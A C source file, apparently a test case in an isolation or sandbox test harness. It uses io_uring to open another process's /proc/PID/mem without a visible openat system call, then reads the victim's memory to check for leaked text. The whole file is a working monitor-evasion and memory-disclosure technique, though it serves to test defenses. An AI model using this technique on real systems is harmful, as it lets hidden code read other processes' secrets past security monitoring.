// SPDX-License-Identifier: Apache-2.0
// Open /proc/PID/mem by io_uring, which no system call shows.
#include <errno.h>
#include <fcntl.h>
#include <linux/io_uring.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/syscall.h>
#include <unistd.h>

#include "row.h"

enum row_result row_attack(const struct row_victim *victim)
{
    struct io_uring_params p = {0};
    int ring = (int)syscall(SYS_io_uring_setup, 2, &p);
    if (ring < 0) {
        return row_from_errno("io_uring_setup");
    }
    char *sq = mmap(NULL, p.sq_off.array + p.sq_entries * sizeof(unsigned), PROT_READ | PROT_WRITE,
                    MAP_SHARED | MAP_POPULATE, ring, IORING_OFF_SQ_RING);
    char *cq = mmap(NULL, p.cq_off.cqes + p.cq_entries * sizeof(struct io_uring_cqe),
                    PROT_READ | PROT_WRITE, MAP_SHARED | MAP_POPULATE, ring, IORING_OFF_CQ_RING);
    struct io_uring_sqe *sqe = mmap(NULL, p.sq_entries * sizeof(*sqe), PROT_READ | PROT_WRITE,
                                    MAP_SHARED | MAP_POPULATE, ring, IORING_OFF_SQES);
    if (sq == MAP_FAILED || cq == MAP_FAILED || (void *)sqe == MAP_FAILED) {
        return row_from_errno("mmap");
    }
    sqe[0] = (struct io_uring_sqe){.opcode = IORING_OP_OPENAT,
                                   .fd = AT_FDCWD,
                                   .addr = (unsigned long)row_path(victim, "mem"),
                                   .open_flags = O_RDONLY};
    ((unsigned *)(void *)(sq + p.sq_off.array))[0] = 0;
    __atomic_store_n((unsigned *)(void *)(sq + p.sq_off.tail), 1, __ATOMIC_RELEASE);
    if (syscall(SYS_io_uring_enter, ring, 1, 1, IORING_ENTER_GETEVENTS, NULL, 0) < 0) {
        return row_from_errno("io_uring_enter");
    }
    int fd = ((struct io_uring_cqe *)(void *)(cq + p.cq_off.cqes))[0].res;
    char text[sizeof(ROW_TEXT)];
    errno = fd < 0 ? -fd : 0;
    if (fd < 0) {
        return row_from_errno("openat");
    }
    ssize_t n = pread(fd, text, sizeof(text), (off_t)victim->address);
    return n > 0 && row_is_text(text, (size_t)n) ? ROW_LEAKED : row_from_errno("pread");
}
